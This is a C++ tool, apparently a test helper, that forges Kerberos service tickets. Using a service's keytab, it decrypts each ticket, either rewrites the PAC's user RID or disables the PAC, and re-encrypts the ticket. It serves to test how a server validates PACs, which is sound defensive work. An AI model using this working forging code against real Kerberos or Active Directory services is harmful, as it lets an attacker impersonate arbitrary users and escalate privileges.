// SPDX-License-Identifier: GPL-3.0-or-later
// Alters the PAC in a service ticket, as somebody could who has the service's key and no key of the
// domain: tests/functional/ad_accounts.py shows what the server makes of it.
//
//   ticket_forge KEYTAB FROM TO rid NUMBER   the PAC says that the client is the user with that RID
//   ticket_forge KEYTAB FROM TO none         the ticket has no PAC any more
//
// FROM and TO are credential caches ("FILE:…"); every ticket that the keytab opens is altered, the
// others are copied.
#include <krb5/krb5.h>

#include <cstring>
#include <iostream>
#include <string>
#include <string_view>
#include <vector>

namespace {

constexpr std::string_view k_pac_type("\xA0\x04\x02\x02\x00\x80",
                                      6);  // ad-type 128 (RFC 4120, 5.2.6)
constexpr std::size_t k_user_id =
    120;  // in KERB_VALIDATION_INFO with its NDR header ([MS-PAC] 2.5)

struct Wish {
  bool drop = false;
  std::uint32_t rid = 0;
};

void check(krb5_context context, krb5_error_code code, const char* what) {
  if (code == 0) return;
  const char* text = krb5_get_error_message(context, code);
  std::cerr << what << ": " << text << '\n';
  std::exit(1);
}

std::uint32_t number_at(const std::string& bytes, std::size_t at) {
  std::uint32_t value = 0;
  std::memcpy(&value, bytes.data() + at, sizeof value);
  return value;
}

// `plain` is an EncTicketPart; its length must stay.
void alter(std::string& plain, const Wish& wish) {
  const auto type = plain.find(k_pac_type);
  if (type == std::string::npos) {
    std::cerr << "a ticket without a PAC\n";
    std::exit(1);
  }
  if (wish.drop) {
    plain[type + 5] = '\x81';  // a type nobody knows
    return;
  }
  // The PAC begins behind [1] OCTET STRING, whose lengths have two octets each: count, version 0.
  const auto pac = plain.find(std::string("\0\0\0\0\0\0\0", 7), type + k_pac_type.size()) - 1;
  const auto count = number_at(plain, pac);
  for (std::uint32_t i = 0; i < count; ++i) {
    const auto entry = pac + 8 + std::size_t{16} * i;
    if (number_at(plain, entry) != 1) continue;  // KERB_VALIDATION_INFO
    const auto user = pac + number_at(plain, entry + 8) + k_user_id;
    std::memcpy(plain.data() + user, &wish.rid, sizeof wish.rid);
    return;
  }
  std::cerr << "a PAC without logon information\n";
  std::exit(1);
}

// Altered and sealed again with the key it was opened with.
void reseal(krb5_context context,
            const krb5_keyblock& key,
            const krb5_ticket& ticket,
            krb5_creds& creds,
            const Wish& wish) {
  const krb5_data& old = ticket.enc_part.ciphertext;
  std::string plain(old.length, '\0');
  krb5_data into{0, static_cast<unsigned>(plain.size()), plain.data()};
  check(
      context,
      krb5_c_decrypt(context, &key, KRB5_KEYUSAGE_KDC_REP_TICKET, nullptr, &ticket.enc_part, &into),
      "decrypting");
  plain.resize(into.length);
  alter(plain, wish);
  std::string cipher(old.length, '\0');
  krb5_enc_data sealed{};
  sealed.enctype = ticket.enc_part.enctype;
  sealed.ciphertext = {0, static_cast<unsigned>(cipher.size()), cipher.data()};
  const krb5_data from{0, static_cast<unsigned>(plain.size()), plain.data()};
  check(context,
        krb5_c_encrypt(context, &key, KRB5_KEYUSAGE_KDC_REP_TICKET, nullptr, &from, &sealed),
        "encrypting");
  const std::string_view whole(creds.ticket.data, creds.ticket.length);
  const auto at = whole.find(std::string_view(old.data, old.length));
  std::memcpy(creds.ticket.data + at, cipher.data(), cipher.size());
}

// False: the keytab has no key for it.
bool forge(krb5_context context, krb5_keytab keytab, krb5_creds& creds, const Wish& wish) {
  krb5_ticket* ticket = nullptr;
  check(context, krb5_decode_ticket(&creds.ticket, &ticket), "ticket");
  krb5_keytab_entry entry{};
  const bool has_key = krb5_kt_get_entry(context, keytab, ticket->server, ticket->enc_part.kvno,
                                         ticket->enc_part.enctype, &entry) == 0;
  if (has_key) reseal(context, entry.key, *ticket, creds, wish);
  if (has_key) krb5_free_keytab_entry_contents(context, &entry);
  krb5_free_ticket(context, ticket);
  return has_key;
}

}  // namespace

int main(int argc, char** argv) {
  const std::vector<std::string> arguments(argv + 1, argv + argc);
  if (arguments.size() < 4) return 2;
  Wish wish;
  wish.drop = arguments[3] == "none";
  if (!wish.drop) wish.rid = static_cast<std::uint32_t>(std::stoul(arguments.at(4)));
  krb5_context context = nullptr;
  if (krb5_init_context(&context) != 0) return 1;
  krb5_keytab keytab = nullptr;
  check(context, krb5_kt_resolve(context, arguments[0].c_str(), &keytab), "keytab");
  krb5_ccache from = nullptr, into = nullptr;
  check(context, krb5_cc_resolve(context, arguments[1].c_str(), &from), "cache");
  check(context, krb5_cc_resolve(context, arguments[2].c_str(), &into), "new cache");
  krb5_principal client = nullptr;
  check(context, krb5_cc_get_principal(context, from, &client), "client");
  check(context, krb5_cc_initialize(context, into, client), "new cache");
  krb5_cc_cursor cursor = nullptr;
  check(context, krb5_cc_start_seq_get(context, from, &cursor), "cache");
  krb5_creds creds{};
  int forged = 0;
  while (krb5_cc_next_cred(context, from, &cursor, &creds) == 0) {
    if (!krb5_is_config_principal(context, creds.server)) {
      if (forge(context, keytab, creds, wish)) ++forged;
      check(context, krb5_cc_store_cred(context, into, &creds), "new cache");
    }
    krb5_free_cred_contents(context, &creds);
  }
  krb5_cc_end_seq_get(context, from, &cursor);
  krb5_cc_close(context, from);
  krb5_cc_close(context, into);
  krb5_kt_close(context, keytab);
  krb5_free_principal(context, client);
  krb5_free_context(context);
  std::cout << forged << " altered\n";
  return forged == 0 ? 1 : 0;
}
